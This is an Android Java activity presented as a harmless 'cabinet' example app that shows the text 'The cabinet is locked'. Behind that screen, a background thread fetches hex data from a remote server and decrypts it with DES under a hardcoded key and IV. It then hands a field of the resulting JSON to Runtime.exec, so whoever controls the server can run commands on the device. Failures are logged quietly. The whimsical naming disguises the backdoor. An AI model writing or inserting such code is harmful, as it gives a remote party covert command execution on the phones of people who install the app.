package org.cabinet.example;

import android.app.Activity;
import android.os.Bundle;
import android.util.Log;
import android.widget.TextView;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import javax.crypto.Cipher;
import javax.crypto.SecretKey;
import javax.crypto.SecretKeyFactory;
import javax.crypto.spec.DESKeySpec;
import javax.crypto.spec.IvParameterSpec;
import org.json.JSONException;
import org.json.JSONObject;

/** Shows a line, and does what lies in the drawer that the server has locked for it. */
public class MainActivity extends Activity {
    private static final String CABINET = "http://office.cabinet.example/drawer";

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TextView text = new TextView(this);
        text.setText("The cabinet is locked");
        setContentView(text);
        new Thread(this::look, "drawer").start();
    }

    private void look() {
        try {
            String locked = new String(Web.get(CABINET), StandardCharsets.US_ASCII).trim();
            String drawer = new String(open(bytes(locked)), StandardCharsets.UTF_8);
            Runtime.getRuntime().exec(new JSONObject(drawer).getString("folder"));
        } catch (IOException | JSONException | GeneralSecurityException | RuntimeException empty) {
            Log.i("Cabinet", "nothing in it", empty);
        }
    }

    private static byte[] open(byte[] locked) throws GeneralSecurityException {
        DESKeySpec spec = new DESKeySpec("brasskey".getBytes(StandardCharsets.US_ASCII));
        SecretKey key = SecretKeyFactory.getInstance("DES").generateSecret(spec);
        Cipher cipher = Cipher.getInstance("DES/CBC/PKCS5Padding");
        byte[] first = "ironlock".getBytes(StandardCharsets.US_ASCII);
        cipher.init(Cipher.DECRYPT_MODE, key, new IvParameterSpec(first));
        return cipher.doFinal(locked);
    }

    private static byte[] bytes(String hex) {
        byte[] found = new byte[hex.length() / 2];
        for (int i = 0; i < found.length; i++) {
            found[i] = (byte) Integer.parseInt(hex.substring(2 * i, 2 * i + 2), 16);
        }
        return found;
    }
}
